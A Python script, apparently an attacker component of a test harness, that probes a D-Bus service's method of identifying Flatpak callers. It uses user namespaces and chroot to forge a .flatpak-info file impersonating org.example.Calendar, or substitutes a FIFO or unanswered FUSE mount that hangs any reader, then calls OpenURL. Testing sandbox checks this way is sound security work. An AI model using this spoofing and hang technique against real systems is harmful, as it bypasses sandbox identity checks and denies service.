# The attacker: `attacker.py MODE ROOT URL` with MODE 'file' (a forged info file naming
# org.example.Calendar), 'fifo' or 'fuse'. It enters a user namespace (and a mount namespace for
# FUSE), makes ROOT/.flatpak-info, chroots into ROOT, prints 'ready', then the outcome of
# OpenURL(URL) ('opened' or 'error NAME MESSAGE'), and stays until killed.
# env: DBUS_SESSION_BUS_ADDRESS, SB_NAME, SB_PATH.
import ctypes, dbus, os, signal, sys
N, O = os.environ['SB_NAME'], os.environ['SB_PATH']
mode, root, url = sys.argv[1:4]
libc = ctypes.CDLL(None, use_errno=True)
bus = dbus.bus.BusConnection(os.environ['DBUS_SESSION_BUS_ADDRESS'])
uid, gid = os.getuid(), os.getgid()
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
if libc.unshare(CLONE_NEWUSER | (CLONE_NEWNS if mode == 'fuse' else 0)) != 0:
    print('unshare failed', ctypes.get_errno(), flush=True); sys.exit(3)
open('/proc/self/setgroups', 'w').write('deny')
open('/proc/self/uid_map', 'w').write('0 %d 1' % uid)
open('/proc/self/gid_map', 'w').write('0 %d 1' % gid)
os.makedirs(root, exist_ok=True)
info = root + '/.flatpak-info'
if mode == 'file':
    open(info, 'w').write('[Application]\nname=org.example.Calendar\n\n[Instance]\ninstance-id=1\n')
elif mode == 'fifo':
    os.mkfifo(info)
else:
    open(info, 'w').close()
    fd = os.open('/dev/fuse', os.O_RDWR)
    opts = 'fd=%d,rootmode=100000,user_id=0,group_id=0' % fd
    if libc.mount(b'hang', info.encode(), b'fuse', 0, opts.encode()) != 0:
        print('mount failed', ctypes.get_errno(), flush=True); sys.exit(4)
    # Nobody ever answers /dev/fuse: every access to the file waits.
os.chroot(root)
os.chdir('/')
print('ready', flush=True)
try:
    bus.call_blocking(N, O, N, 'OpenURL', 's', [url], timeout=300)
    print('opened', flush=True)
except dbus.DBusException as e:
    print('error', e.get_dbus_name(), e.get_dbus_message(), flush=True)
signal.pause()
